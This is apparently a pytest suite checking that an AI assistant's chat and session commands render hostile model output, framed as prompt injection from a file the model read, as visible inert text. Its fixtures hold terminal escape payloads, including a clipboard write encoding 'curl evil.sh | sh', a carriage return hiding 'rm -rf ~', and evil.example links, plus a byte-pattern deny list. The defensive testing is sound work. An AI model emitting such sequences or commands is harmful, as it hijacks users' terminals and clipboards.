"""Model text never drives the terminal: `agent-assist chat` in a pty, the admin commands.

The attacker controls what the model says (instructions planted in a file it read): OSC 52
writes the clipboard, OSC 2 retitles the window, OSC 8 hides a link's target, CSI clears
the screen or asks the terminal to answer, a C1 CSI does the same in one character, CR
overwrites what was shown. Each must reach the screen as visible text (`␛`, `␍`, `\\u009b`).
"""

from __future__ import annotations

import io
import json
import re
import sys
from pathlib import Path
from typing import Any

import pexpect
from hypothesis import given
from hypothesis import strategies as st

from lsp_server.fake_model import FakeOpenAI
from session.terminal_text import LINE_TABLE, has_controls, inert, inert_json, inert_line
from tests.cli.conftest import REPO, clean_env, model_env, run_cli
from tests.cli.test_admin import make_session

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
OSC2 = "\x1b]2;pwned\x07"
OSC8 = "\x1b]8;;http://evil.example/osc8\x1b\\click me\x1b]8;;\x1b\\"
PIECES = [
    f"clipboard {OSC52}",
    f"title {OSC2}",
    f"hidden {OSC8}",
    "clear \x1b[2J\x1b[3J and ask \x1b[6n",
    "c1 \x9b6n and nel\x85here",
    "ok-command\rrm -rf ~",
    "markup [bold]not bold[/bold] [link=http://evil.example/markup]x[/link]",
    "a [docs link](http://evil.example/md) to follow",
]
HOSTILE = "\n\n".join(PIECES)

# What a terminal would obey, as bytes on the wire (C1 as UTF-8: U+009B is C2 9B).
FORBIDDEN = [
    b"\x1b]52",
    b"\x1b]2;",
    b"\x1b]8;",
    b"\x1b[2J",
    b"\x1b[3J",
    b"\x1b[6n",
    b"\xc2\x9b",
    b"\xc2\x85",
    b"ok-command\rrm",
    b"\x07",
]
VISIBLE = [
    "␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇",
    "␛]2;pwned␇",
    "␛]8;;http://evil.example/osc8",
    "␛[2J",
    "\\u009b6n",
    "nel\\u0085here",
    "ok-command␍rm -rf ~",
    "[bold]not bold[/bold]",
    "[link=http://evil.example/markup]x[/link]",
]


OWN_CSI = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]")  # the chat's own styles and cursor moves


def visible(raw: bytes) -> str:
    """Return what `raw` shows once its own CSI sequences are taken out."""
    return OWN_CSI.sub("", raw.decode("utf-8", "replace"))


def assert_inert(raw: bytes) -> None:
    """No escape from the model's text is in `raw`; each is there, visible."""
    for seq in FORBIDDEN:
        assert seq not in raw, f"{seq!r} reached the terminal"
    text = visible(raw)
    for shown in VISIBLE:
        assert shown in text, f"{shown!r} is not shown"


def spawn(workspace: Path, home: Path, fake: FakeOpenAI, log: io.BytesIO) -> pexpect.spawn[Any]:
    child = pexpect.spawn(
        sys.executable,
        ["-m", "lsp_server.cli", "chat", "--workspace", str(workspace)],
        env=clean_env(home, model_env(fake)),
        cwd=str(REPO),
        timeout=40,
        encoding=None,  # bytes: what the terminal receives, byte for byte
        dimensions=(50, 200),
    )
    child.logfile_read = log
    return child


def type_line(child: pexpect.spawn[Any], line: str) -> None:
    child.expect_exact("›".encode())
    child.send(line + "\r")


def test_chat_reply_tool_activity_history_and_search_are_inert(
    workspace: Path, home: Path, fake: FakeOpenAI
) -> None:
    log = io.BytesIO()
    child = spawn(workspace, home, fake, log)
    tool_path = f"notes{OSC2}.txt"
    fake.add(
        {"tool_calls": [{"name": "read_file", "arguments": {"path": tool_path}, "id": "c1"}]},
        {"text": HOSTILE, "chunk": 7},  # escapes split across deltas, as a stream may
    )
    type_line(child, "please read my notes")
    child.expect_exact(b"turn 1 \xc2\xb7")
    streamed = log.getvalue()
    assert_inert(streamed)
    assert "tool read_file notes␛]2;pwned␇.txt (failed)" in visible(streamed)
    # Markdown links show their target; none is an OSC 8 hyperlink.
    assert "docs link (http://evil.example/md)" in visible(streamed)

    mark = len(log.getvalue())
    type_line(child, "/history")
    child.expect_exact(b"You (turn 1): please read my notes")
    child.expect_exact(b"follow")
    type_line(child, "/search pwned")
    child.expect_exact(b"Matches for 'pwned'")
    child.expect_exact("›".encode())
    later = log.getvalue()[mark:]
    for seq in FORBIDDEN:
        assert seq not in later
    assert "␛]2;pwned" in visible(later)  # the snippet, shown
    child.sendcontrol("d")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0


def hostile_store(workspace: Path, home: Path) -> tuple[str, dict[str, str]]:
    """A session whose question (hence title) and answer hold the escapes."""
    question = f"title {OSC2} {OSC52} hello"
    session_id = make_session(workspace, home, [(question, HOSTILE)])
    return session_id, clean_env(home)


def test_sessions_show_export_search_and_list_are_inert(
    workspace: Path, home: Path, tmp_path: Path
) -> None:
    session_id, env = hostile_store(workspace, home)
    where = ["--workspace", str(workspace)]

    shown = run_cli("sessions", "show", session_id, *where, env=env)
    assert shown.returncode == 0, shown.stderr
    assert_inert(shown.stdout.encode())

    exported = run_cli("sessions", "export", session_id, "--format", "md", *where, env=env)
    assert exported.returncode == 0, exported.stderr
    assert_inert(exported.stdout.encode())
    out = tmp_path / "session.md"
    written = run_cli(
        "sessions", "export", session_id, "--format", "md", "-o", str(out), *where, env=env
    )
    assert written.returncode == 0, written.stderr
    assert_inert(out.read_bytes())  # a Markdown file `cat`-ed later is inert too

    found = run_cli("sessions", "search", "pwned", *where, env=env)
    assert found.returncode == 0, found.stderr
    for seq in FORBIDDEN:
        assert seq not in found.stdout.encode()
    assert "␛]2;[pwned]␇" in found.stdout  # the match marked in its snippet

    listed = run_cli("sessions", "list", *where, env=env)
    assert listed.returncode == 0, listed.stderr
    for seq in FORBIDDEN:
        assert seq not in listed.stdout.encode()
    assert "title ␛]2;pwned␇" in listed.stdout


def test_json_outputs_escape_c1_and_separators_and_keep_the_text(
    workspace: Path, home: Path, tmp_path: Path
) -> None:
    session_id, env = hostile_store(workspace, home)
    where = ["--workspace", str(workspace)]
    for args in (
        ["sessions", "export", session_id, "--format", "json"],
        ["sessions", "show", session_id, "--json"],
        ["sessions", "search", "pwned", "--json"],
        ["sessions", "list", "--json"],
    ):
        result = run_cli(*args, *where, env=env)
        assert result.returncode == 0, result.stderr
        raw = result.stdout.encode()
        for seq in (b"\x1b", b"\xc2\x9b", b"\xc2\x85", b"\x07", b"\r"):
            assert seq not in raw, (args, seq)
        json.loads(result.stdout)  # still JSON
    exported = run_cli("sessions", "export", session_id, "--format", "json", *where, env=env)
    texts = [item["text"] for item in json.loads(exported.stdout)["transcript"]]
    assert HOSTILE in texts  # lossless: the escapes are JSON escapes


# -- the sanitiser ------------------------------------------------------------------------

BIDI = {0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)}
OBEYED = {*range(0x20), 0x7F, *range(0x80, 0xA0), 0x2028, 0x2029, *BIDI}


def obeyed(text: str, keep: set[int]) -> list[str]:
    return [c for c in text if ord(c) in OBEYED - keep]


@given(st.text(alphabet=st.characters(codec="utf-8")))
def test_inert_leaves_nothing_a_terminal_obeys(text: str) -> None:
    assert obeyed(inert(text), {0x09, 0x0A}) == []
    assert obeyed(inert_line(text), set()) == []
    assert has_controls(text) == bool(obeyed(text, set()))
    if not has_controls(text):
        assert inert(text) == inert_line(text) == text


@given(st.text(alphabet=st.sampled_from([*map(chr, OBEYED), "a", "é", "中", "\\", '"'])))
def test_inert_json_is_the_same_json_without_raw_controls(text: str) -> None:
    data = json.dumps({"t": text}, ensure_ascii=False).encode()
    safe = inert_json(data)
    assert json.loads(safe) == {"t": text}
    assert obeyed(safe.decode(), set()) == []


def test_every_obeyed_character_has_a_visible_form() -> None:
    assert set(LINE_TABLE) == OBEYED
    assert inert("\x1b") == "␛" and inert("\r") == "␍" and inert("\x9b") == "\\u009b"
    assert inert("a\n\tb") == "a\n\tb" and inert_line("a\n\tb") == "a␊␉b"


def test_demo_with_a_hostile_configured_model_prints_it_inert(tmp_path: Path) -> None:
    from lsp_server.demo.script import demo_script

    scratch = tmp_path / "tmp"
    scratch.mkdir()
    script = demo_script()
    for reply in script:  # every text the model streams carries the escapes
        if isinstance(reply, dict) and "text" in reply:
            reply["text"] = f"{reply['text']}\n\n{HOSTILE}"
    with FakeOpenAI(script, label="hostile") as model:
        env = clean_env(tmp_path / "real-store", {"TMPDIR": str(scratch), **model_env(model)})
        result = run_cli("demo", env=env)
    assert "Model: agent-assist-hostile" in result.stdout, result.stderr
    assert_inert(result.stdout.encode())


def test_a_hostile_title_in_the_resume_question_stays_one_inert_line() -> None:
    """A seed's summary (`--from` a cloned repository) becomes the title the question shows."""
    from datetime import UTC, datetime

    from session.lifecycle.values import PreviousSession

    previous = PreviousSession(
        "a1b2c3d4e5f6", datetime(2026, 3, 31, tzinfo=UTC), 0, HOSTILE, source="seed"
    )
    lines = previous.prompt().split("\n")
    assert len(lines) == 3 and lines[2] == "Resume previous session?"  # no line smuggled in
    assert "\r" not in lines[1] and "\x85" not in lines[1]
    assert not has_controls(inert(lines[1]))  # as the terminal prints it (`ChatApp.say`)
